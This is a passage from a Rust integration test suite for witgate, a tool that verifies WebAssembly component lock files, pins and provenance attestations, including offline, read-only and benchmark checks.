    with(&(passed("wasmtime 46") + &signed::tested(9, &tool, "jco 1.35", "PASSED")));
    repository.verify(&[]).expect(1, &["error[portability-unproved]"]);
}

#[test]
fn an_image_stands_for_its_layer() {
    let (repository, tool) = attested();
    let manifest = serde_json::json!({
        "schemaVersion": 2,
        "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "layers": [{ "mediaType": "application/wasm", "digest": sha256(&tool), "size": tool.len() }],
    })
    .to_string();
    repository.edit(
        "witgate.toml",
        "attestations",
        "manifest = \"tool.manifest.json\"\nattestations",
    );
    repository.write("tool.manifest.json", &manifest);
    // What is attested is the manifest, as registries have it.
    let provenance = signed::provenance(7, manifest.as_bytes(), "https://github.com/acme/tool");
    repository.write("tool.intoto.jsonl", provenance);
    repository.verify(&[]).expect(1, &["the pinned OCI manifest is of others"]);
    repository.witgate(&["pin"]).expect(0, &["changed  tool.wasm"]);
    repository.verify(&[]).expect(0, &["4 of 4 entries verified"]);
    // The manifest of another artifact vouches for nothing.
    repository.write("tool.manifest.json", manifest.replace(&sha256(&tool), &sha256(b"other")));
    let run = repository.verify(&[]);
    run.expect(1, &["error[provenance-refused]", "is the manifest of other bytes"]);
}

#[test]
fn the_result_as_a_statement() {
    let (repository, tool) = attested();
    let arguments = ["--attest", "out/../result.json", "--as-of", "2026-11-20"];
    fs::create_dir_all(repository.path().join("out")).expect("created");
    repository.verify(&arguments).expect(0, &["PASS"]);
    let statement: Value = serde_json::from_str(&repository.read("result.json")).expect("JSON");
    assert_eq!(statement["_type"], "https://in-toto.io/Statement/v1");
    assert_eq!(statement["predicateType"], "https://in-toto.io/attestation/svr/v0.2");
    assert_eq!(statement["predicate"]["timeCreated"], "2026-11-20T00:00:00Z");
    let properties = statement["predicate"]["properties"].as_array().expect("properties");
    for property in ["passed", "pins-verified", "worlds-fitted", "provenance-verified"] {
        assert!(properties.contains(&format!("witgate/{property}").into()), "{statement:#}");
    }
    let subjects = statement["subject"].as_array().expect("subjects");
    let of = subjects.iter().find(|it| it["name"] == "tool.wasm").expect("the artifact");
    assert_eq!(of["digest"]["sha256"], locked::hex(&tool));
    // What does not hold is not claimed.
    repository.write("tool.wasm", with_section(&tool, "note", "x"));
    repository.verify(&arguments).expect(1, &["FAIL"]);
    let statement = repository.read("result.json");
    assert!(!statement.contains("witgate/passed") && !statement.contains("pins-verified"));
    assert!(statement.contains("worlds-fitted"), "{statement}");
}

/// Every file is as it was, and the same holds without a network.
#[cfg(unix)]
#[test]
fn it_only_reads_and_asks_nobody() {
    use std::os::unix::fs::PermissionsExt as _;
    use std::process::Command;

    let (repository, _) = attested();
    let wkg = Repository::with_wkg();
    for repository in [&repository, &wkg] {
        let before = repository.files();
        let modes = |mode: u32| {
            for path in before.keys() {
                let permissions = fs::Permissions::from_mode(mode);
                fs::set_permissions(path, permissions).expect("they are ours");
            }
        };
        modes(0o444);
        repository.verify(&[]).expect(0, &["PASS"]);
        repository.witgate(&["check"]).expect(0, &["PASS"]);
        modes(0o644);
        assert_eq!(repository.files(), before);
    }

    let alone = |program: &str, arguments: &[&str]| {
        let mut command = Command::new("unshare");
        command.args(["-rn", program]).args(arguments).current_dir(repository.path());
        command.env("GIT_CONFIG_NOSYSTEM", "1").output()
    };
    if !alone("true", &[]).is_ok_and(|output| output.status.success()) {
        println!("SKIPPED: no namespace without a network can be had here");
        return;
    }
    let output = alone(env!("CARGO_BIN_EXE_witgate"), &["verify"]).expect("it runs");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && said.contains("PASS: 4 of 4"), "{said}");
}

#[test]
fn levels_are_the_teams() {
    let repository = Repository::with_wkg();
    repository
        .write("wit/deps/evil/evil.wit", "package evil:geo@1.0.0; interface i { f: func(); }");
    repository.write("witgate.toml", "[rules]\nlock-extra = \"warn\"\n");
    repository.verify(&[]).expect(0, &["warn[lock-extra]", "warn[policy-loosened]"]);
    repository.verify(&["--fail-on", "warn"]).expect(1, &["FAIL"]);
    // Locks elsewhere are examined where the policy says so.
    repository.write("witgate.toml", "[lock]\nfiles = [\"other/wkg.lock\"]\n");
    repository.verify(&[]).expect(2, &["lock file `other/wkg.lock` not found", "witgate.toml:2"]);
    repository.write("other/wkg.lock", "version = 1\npackages = []\n");
    repository.verify(&[]).expect(1, &["other/wkg.lock", "error[lock-extra]"]);
    repository.write("witgate.toml", "[lock]\nfiles = [\"other/some.lock\"]\n");
    repository.verify(&[]).expect(2, &["is not a lock file that witgate supports", "`wkg.lock`"]);
}

/// Every directory below one in which a file of a name is.
fn homes(directory: &Path, name: &str, found: &mut Vec<PathBuf>) {
    for entry in fs::read_dir(directory).expect("a directory") {
        let path = entry.expect("an entry").path();
        if path.is_dir() {
            homes(&path, name, found);
        } else if path.file_name().is_some_and(|it| it == name) {
            found.push(directory.to_owned());
        }
    }
    found.sort();
}

/// The locks of WASI's own releases verify, but for the two that are really
/// stale: `sockets` in a release candidate was taken from elsewhere.
#[test]
#[ignore = "reads WITGATE_CORPUS"]
fn the_locks_of_wasi() {
    let corpus = corpus::root();
    let releases = corpus.join("corpus/wasi-releases");
    let mut found = Vec::new();
    homes(&releases, "deps.lock", &mut found);
    let mut verdicts: BTreeMap<String, usize> = BTreeMap::new();
    let mut wrong = Vec::new();
    for home in &found {
        let place = home.strip_prefix(&releases).expect("below").to_str().expect("text");
        let arguments = ["verify", place, "--against", "none", "--format", "json"];
        let run = sandbox::run(&releases, &arguments, &[("XDG_CACHE_HOME", "/nowhere")]);
        let report: Value =
            serde_json::from_str(&run.said).unwrap_or_else(|_| panic!("{}", run.said));
        for row in report["integrity"].as_array().expect("rows") {
            let verdict = row["verdict"].as_str().expect("text").to_owned();
            if verdict != "verified" {
                wrong.push(format!("{} {} {verdict}", row["file"], row["entry"]));
            }
            *verdicts.entry(verdict).or_default() += 1;
        }
    }
    let candidate = "v0.3.0-rc-2026-03-15/proposals";
    let stale = ["cli", "http"]
        .map(|it| format!("\"{candidate}/{it}/wit/deps.lock\" \"sockets\" mismatch"));
    assert_eq!(wrong, stale);
    let expected = [("mismatch".to_owned(), 2), ("verified".to_owned(), 198)];
    assert_eq!(verdicts, BTreeMap::from(expected));
}

/// Locks of many projects, with nothing around them: rows, and an answer.
#[test]
#[ignore = "reads WITGATE_CORPUS"]
fn the_locks_of_others() {
    let corpus = corpus::root();
    let mut looked = 0;
    for path in fs::read_dir(corpus.join("corpus/lockfiles")).expect("a directory") {
        let path = path.expect("an entry").path();
        let file = path.file_name().and_then(|name| name.to_str()).expect("text");
        let names = ["wkg.lock", "Cargo-component.lock", "deps.lock", "wasm.lock.toml"];
        let Some(name) = names.iter().find(|name| file.ends_with(*name)) else { continue };
        let repository = Repository::new();
        repository.write(name, fs::read(&path).expect("it can be read"));
        repository.write("wit/p.wit", PLUGIN_ALONE);
        let run = repository.verify(&["--against", "none", "--format", "json"]);
        looked += 1;
        // An empty lock where nothing is asked for has nothing to say.
        if run.code == 2 {
            assert!(run.said.contains("nothing was verified"), "{file}: {}", run.said);
            continue;
        }
        let report: Value =
            serde_json::from_str(&run.said).unwrap_or_else(|_| panic!("{}", run.said));
        for row in report["integrity"].as_array().expect("rows") {
            assert_ne!(row["verdict"], "verified", "{file}: {row}");
            assert!(!row["detail"].as_str().expect("text").is_empty(), "{file}: {row}");
        }
    }
    assert!(looked > 40, "{looked}");
}

/// `cargo test --release -p witgate-cli --test verify speed -- --ignored --nocapture`
#[test]
#[ignore = "prints how long it takes, beside plain hashing"]
fn speed() {
    use std::process::Command;
    use std::time::Instant;

    let repository = Repository::new();
    repository.write("wit/tool.wit", TOOL);
    let mut lock = "version = 1\n".to_owned();
    let mut world = "world all {\n".to_owned();
    for number in 0..500 {
        let text = format!(
            "package acme:p{number}@1.0.0; interface i {{ record r {{ a: u32 }} f: func(r: r); }}"
        );
        let bytes = encode(&[&text]);
        repository.store(&bytes);
        repository.write(&format!("wit/deps/p{number}/p.wit"), &text);
        lock.push_str(&entry(&format!("acme:p{number}"), "1.0.0", &sha256(&bytes)));
        world.push_str(&format!("  import acme:p{number}/i@1.0.0;\n"));
    }
    repository.write("wkg.lock", lock);
    repository.write("wit/tool.wit", format!("{TOOL}\n{world}}}\n"));
    let tool = component(TOOL, "tool");
    let mut policy = "[[package]]\npath = \"wit\"\n".to_owned();
    for number in 0..100 {
        // Ten megabytes in a custom section, whose length takes four bytes.
        let data = vec![number as u8; 10 << 20];
        let size = data.len() + 2;
        let length: Vec<u8> = (0..4)
            .map(|at| ((size >> (7 * at)) & 0x7f) as u8 | if at < 3 { 0x80 } else { 0 })
            .collect();
        let section = [&[0], &length[..], &[1, b'x'], &data].concat();
        repository.write(&format!("dist/{number}.wasm"), [&tool[..], &section].concat());
        policy
            .push_str(&format!("[[artifact]]\npath = \"dist/{number}.wasm\"\nworld = \"tool\"\n"));
    }
    repository.write("witgate.toml", policy);
    let start = Instant::now();
    repository.witgate(&["pin"]).expect(0, &["wrote witgate.lock"]);
    println!("pin: {:?}", start.elapsed());
    for _ in 0..3 {
        let start = Instant::now();
        let run = repository.verify(&["--against", "none"]);
        let took = start.elapsed();
        run.expect(0, &["PASS: 701 of 701 entries verified"]);
        let start = Instant::now();
        let hash = "find dist .witgate -type f -print0 | xargs -0 -P 0 -n 10 sha256sum > /dev/null";
        Command::new("sh").args(["-c", hash]).current_dir(repository.path()).status().expect("sh");
        println!("verify: {took:?}; sha256sum on all cores: {:?}", start.elapsed());
    }
}

/// What the policy opens is pinned, and held to its pin.
#[test]
fn what_is_behind_a_feature_of_the_policy_is_pinned_too() {
    let contract = |size: &str| {
        format!(
            "package acme:p@1.0.0;\ninterface i {{\n  f: func();\n  \
             @unstable(feature = next)\n  g: func(a: {size});\n}}\n"
        )
    };
    let policy = "[[package]]\npath = \"wit\"\nfeatures = [\"next\"]\n";
    let files = [("wit/p.wit", &*contract("u32")), ("witgate.toml", policy)];
    let repository = sandbox::repository(&files);
    let here = repository.path();
    sandbox::witgate(here, &["pin"]).expect(0, &["wrote witgate.lock"]);
    sandbox::witgate(here, &["verify"]).expect(0, &["1 of 1 entry verified"]);
    sandbox::write(here, "wit/p.wit", contract("u64"));
    sandbox::witgate(here, &["verify"]).expect(1, &["error[pin-changed]", "parameter `a` of `g`"]);
}

/// The pins of a repository may be at its top, and none are above it.
#[test]
fn pins_are_looked_for_up_to_the_top_of_the_repository() {
    let contract = "package acme:p@1.0.0;\ninterface i { f: func(); }\n";
    let above = tempfile::tempdir().expect("a directory");
    let here = above.path().join("repository");
    fs::create_dir(&here).expect("created");
    git(&here, &["init", "-q", "-b", "main"]);
    sandbox::write(&here, "a/b/wit/p.wit", contract);
    sandbox::commit(&here, "a contract");
    sandbox::witgate(&here, &["pin"]).expect(0, &["wrote witgate.lock"]);
    sandbox::write(&here, "a/b/witgate.toml", "baseline = \"pin\"\n[[package]]\npath = \"wit\"\n");
    sandbox::commit(&here, "pinned");
    sandbox::witgate(&here.join("a/b"), &["check"]).expect(0, &["PASS"]);
    fs::rename(here.join("witgate.lock"), above.path().join("witgate.lock")).expect("moved");
    sandbox::witgate(&here.join("a/b"), &["check"]).expect(2, &["there is no witgate.lock"]);
}

/// What a policy names is verified with its features, whichever package was asked for.
#[test]
fn a_pin_of_another_package_is_compared_with_its_features() {
    let repository = tempfile::tempdir().expect("a directory");
    let here = repository.path();
    git(here, &["init", "-q"]);
    sandbox::write(here, "a/a.wit", "package acme:a@1.0.0;\ninterface i { f: func(); }\n");
    let gated = "interface i { f: func(); @unstable(feature = x) g: func(); }\n";
    sandbox::write(here, "b/b.wit", format!("package acme:b@1.0.0;\n{gated}"));
    let policy = "[[package]]\npath = \"a\"\n[[package]]\npath = \"b\"\nfeatures = [\"x\"]\n";
    sandbox::write(here, "witgate.toml", policy);
    sandbox::witgate(here, &["pin"]).expect(0, &[]);
    sandbox::witgate(here, &["verify", "a"]).expect(0, &["PASS: 2 of 2 entries verified"]);
    sandbox::write(
        here,
        "b/b.wit",
        format!("package acme:b@1.0.0;\n{}", gated.replace("g:", "h:")),
    );
    sandbox::witgate(here, &["verify", "a"]).expect(1, &["pin-changed"]);
}
